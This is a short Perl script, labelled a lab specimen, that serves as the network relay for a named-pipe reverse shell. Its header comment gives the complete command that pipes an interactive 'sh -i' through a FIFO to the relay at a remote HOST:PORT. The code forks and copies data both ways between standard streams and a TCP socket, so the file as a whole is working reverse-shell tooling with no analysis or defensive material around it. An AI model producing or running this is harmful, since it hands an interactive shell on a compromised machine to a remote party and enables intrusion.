#!/usr/bin/perl
# Lab specimen: the network half of a named-pipe reverse shell
#   mkfifo F; sh -i < F 2>&1 | relay HOST:PORT > F
# It copies its standard input to a TCP connection and the connection to its
# standard output, so the shell itself never holds a socket.
use strict;
use warnings;
use IO::Socket::INET;

my $peer = shift @ARGV or die "usage: relay HOST:PORT\n";
my $s = IO::Socket::INET->new(PeerAddr => $peer, Proto => 'tcp') or die "connect: $!\n";
$s->autoflush(1);
$| = 1;
my $pid = fork();
die "fork: $!\n" unless defined $pid;
if ($pid) {
	while (1) {
		my $n = sysread(STDIN, my $buf, 4096);
		last unless $n;
		syswrite($s, $buf);
	}
	kill 'TERM', $pid;
} else {
	while (1) {
		my $n = sysread($s, my $buf, 4096);
		last unless $n;
		syswrite(STDOUT, $buf);
	}
}
